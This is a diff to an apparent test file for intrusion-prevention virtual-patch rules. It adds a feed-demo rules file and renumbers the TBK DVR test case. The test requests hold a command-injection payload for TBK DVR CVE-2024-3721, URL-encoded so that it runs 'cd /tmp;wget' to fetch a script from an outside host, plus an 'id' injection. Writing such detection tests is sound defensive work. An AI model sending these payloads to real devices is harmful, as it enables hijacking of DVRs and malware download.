@@ -218,15 +218,19 @@ def flowint_case() -> None:
 # (192.0.2.66) attack a device in HOME_NET (192.0.2.0/24).
 
 SHIPPED_RULES = os.path.join(os.path.dirname(HERE), "..", "..", "signatures", "virtual-patches.rules")
+# The TBK DVR patch ships by feed only (the lab demo shows it arriving).
+FEED_DEMO_RULES = os.path.join(os.path.dirname(SHIPPED_RULES), "feed-demo", "tbk-dvr.rules")
 ATTACKER, LAN_BOT, DEVICE = "203.0.113.7", "192.0.2.66", "192.0.2.21"
 OK_RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
 
 
 def _shipped_rules(*sids: int) -> str:
     wanted = {f"sid:{sid};" for sid in sids}
-    with open(SHIPPED_RULES) as handle:
-        lines = [line for line in handle
-                 if line.startswith(("alert", "drop")) and any(w in line for w in wanted)]
+    lines = []
+    for path in (SHIPPED_RULES, FEED_DEMO_RULES):
+        with open(path) as handle:
+            lines += [line for line in handle
+                      if line.startswith(("alert", "drop")) and any(w in line for w in wanted)]
     assert len(lines) == len(sids), sids
     return "".join(lines)
 
@@ -304,14 +308,14 @@ def virtual_patch_cases() -> None:
         {9100106: 2, 9100107: 2},
         "GPON ONT: ?images/ bypass and a non-host dest_host drop; an authenticated ping passes")
     _vpatch_case(
-        "vpatch-tbk-cve-2024-3721", (9100108,),
+        "vpatch-tbk-cve-2024-3721", (9100040,),
         [_request("POST", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Ft.sh",
                   headers=b"Cookie: uid=1\r\n"),
          _request("GET", "/device.rsp?opt=sys&cmd=%5F%5F%5FS_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id",
                   headers=b"Cookie: uid=1\r\n")],
         [_request("GET", "/device.rsp?opt=user&cmd=list"),
          _request("GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos")],
-        {9100108: 2}, "TBK DVR: the SOS debug command with an mdc command drops; other device.rsp calls pass")
+        {9100040: 2}, "TBK DVR: the SOS debug command with an mdc command drops; other device.rsp calls pass")
     _vpatch_case(
         "vpatch-zyxel-cve-2017-18368", (9100109,),
         [_request("POST", "/cgi-bin/ViewLog.asp",
